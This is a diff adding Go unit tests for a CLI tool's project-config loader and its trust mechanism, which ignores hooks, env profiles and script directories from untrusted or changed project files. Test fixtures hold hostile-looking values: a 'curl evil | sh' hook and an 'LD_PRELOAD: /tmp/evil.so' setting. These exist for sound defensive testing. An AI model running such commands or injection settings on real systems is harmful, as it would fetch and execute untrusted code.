@@ -0,0 +1,177 @@
+package cmd
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/spf13/viper"
+)
+
+func TestFindProjectFile(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("HOME", filepath.Join(root, "home"))
+
+	projectDir := filepath.Join(root, "work", "repo")
+	nested := filepath.Join(projectDir, "src", "pkg")
+	if err := os.MkdirAll(nested, 0755); err != nil {
+		t.Fatal(err)
+	}
+	projectFile := filepath.Join(projectDir, projectFileName)
+	if err := os.WriteFile(projectFile, []byte("scripts:\n  dir: tools\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	if got := findProjectFile(nested); got != projectFile {
+		t.Errorf("findProjectFile(%s) = %q, want %q", nested, got, projectFile)
+	}
+	if got := findProjectFile(filepath.Join(root, "work")); got != "" {
+		t.Errorf("Expected no project file above the project, got %q", got)
+	}
+}
+
+func TestFindProjectFileStopsAtHome(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+
+	// ~/.berga.yaml is the global config, not a project file
+	if err := os.WriteFile(filepath.Join(home, projectFileName), []byte("editor: vim\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	dir := filepath.Join(home, "code")
+	if err := os.MkdirAll(dir, 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	if got := findProjectFile(dir); got != "" {
+		t.Errorf("Expected the global config to be skipped, got %q", got)
+	}
+}
+
+func TestResolveEnvProfile(t *testing.T) {
+	defer func(p *ProjectConfig) { project = p }(project)
+
+	project = &ProjectConfig{}
+	project.Env.Default = "dev"
+	project.Env.Profiles = map[string]map[string]string{
+		"dev":  {"API_URL": "http://localhost"},
+		"prod": {"API_URL": "https://example.com"},
+	}
+
+	env, err := resolveEnvProfile("")
+	if err != nil || env["API_URL"] != "http://localhost" {
+		t.Errorf("Expected default profile, got %v (err %v)", env, err)
+	}
+	env, err = resolveEnvProfile("prod")
+	if err != nil || env["API_URL"] != "https://example.com" {
+		t.Errorf("Expected prod profile, got %v (err %v)", env, err)
+	}
+	if _, err := resolveEnvProfile("staging"); err == nil {
+		t.Error("Expected an error for an unknown profile")
+	}
+}
+
+func TestFilterProjectConfig(t *testing.T) {
+	raw := map[string]interface{}{
+		"editor":  "evil",
+		"secrets": map[string]interface{}{"token": "x"},
+		"hooks":   map[string]interface{}{"pre_script_run": "curl evil | sh"},
+		"scripts": map[string]interface{}{"dir": "tools", "Timeout": "5m", "require_trust": false},
+		"env":     map[string]interface{}{"default": "dev"},
+	}
+	kept, ignored := filterProjectConfig(raw, "", projectKeys)
+	if got := strings.Join(ignored, ","); got != "editor,env,hooks,scripts.dir,scripts.require_trust,secrets" {
+		t.Errorf("Unexpected ignored keys %q", got)
+	}
+	scripts := kept["scripts"].(map[string]interface{})
+	if len(kept) != 1 || scripts["Timeout"] != "5m" || len(scripts) != 1 {
+		t.Errorf("Unexpected kept settings %v", kept)
+	}
+
+	kept, _ = filterProjectConfig(raw, "", append(append([]string(nil), projectKeys...), projectTrustedKeys...))
+	for _, key := range []string{"hooks", "env"} {
+		if _, ok := kept[key]; !ok {
+			t.Errorf("Expected %s to be kept for a trusted project file", key)
+		}
+	}
+	if kept["scripts"].(map[string]interface{})["dir"] != "tools" {
+		t.Error("Expected scripts.dir to be kept for a trusted project file")
+	}
+}
+
+func TestProjectTrust(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("HOME", filepath.Join(root, "home"))
+	dir := filepath.Join(root, "repo")
+	os.MkdirAll(dir, 0755)
+	path := filepath.Join(dir, projectFileName)
+	os.WriteFile(path, []byte("hooks:\n  pre_script_run: make lint\n"), 0644)
+	wd, _ := os.Getwd()
+	defer os.Chdir(wd)
+	os.Chdir(dir)
+	// The temp directory may be behind a symlink, as on macOS
+	path, _ = currentProjectFile()
+
+	if projectFileTrusted(path) {
+		t.Fatal("Expected a new project file not to be trusted")
+	}
+	if err := trustProjectFile(); err != nil {
+		t.Fatal(err)
+	}
+	if !projectFileTrusted(path) {
+		t.Error("Expected the project file to be trusted")
+	}
+	os.WriteFile(path, []byte("hooks:\n  pre_script_run: curl evil | sh\n"), 0644)
+	if projectFileTrusted(path) {
+		t.Error("Expected a changed project file not to be trusted")
+	}
+	if err := untrustProjectFile(); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadProjectConfigUntrustedEnv(t *testing.T) {
+	root := t.TempDir()
+	t.Setenv("HOME", filepath.Join(root, "home"))
+	defer func(p *ProjectConfig) { project = p }(project)
+	defer viper.Set("env", nil)
+	defer viper.Set("scripts.dir", nil)
+
+	dir := filepath.Join(root, "repo")
+	os.MkdirAll(filepath.Join(dir, "tools"), 0755)
+	os.WriteFile(filepath.Join(dir, projectFileName), []byte(`scripts:
+  dir: tools
+env:
+  default: dev
+  profiles:
+    dev:
+      LD_PRELOAD: /tmp/evil.so
+`), 0644)
+	wd, _ := os.Getwd()
+	defer os.Chdir(wd)
+	os.Chdir(dir)
+
+	if err := loadProjectConfig(); err != nil {
+		t.Fatal(err)
+	}
+	if env, err := resolveEnvProfile(""); err != nil || len(env) != 0 {
+		t.Errorf("Expected an untrusted project's env to be ignored, got %v (err %v)", env, err)
+	}
+	if GetProjectScriptsDir() != "" {
+		t.Errorf("Expected an untrusted project's scripts.dir to be ignored, got %q", GetProjectScriptsDir())
+	}
+
+	if err := trustProjectFile(); err != nil {
+		t.Fatal(err)
+	}
+	if err := loadProjectConfig(); err != nil {
+		t.Fatal(err)
+	}
+	if env, err := resolveEnvProfile(""); err != nil || env["LD_PRELOAD"] != "/tmp/evil.so" {
+		t.Errorf("Expected a trusted project's env to be used, got %v (err %v)", env, err)
+	}
+	if filepath.Base(GetProjectScriptsDir()) != "tools" {
+		t.Errorf("Expected a trusted project's scripts.dir to be used, got %q", GetProjectScriptsDir())
+	}
+}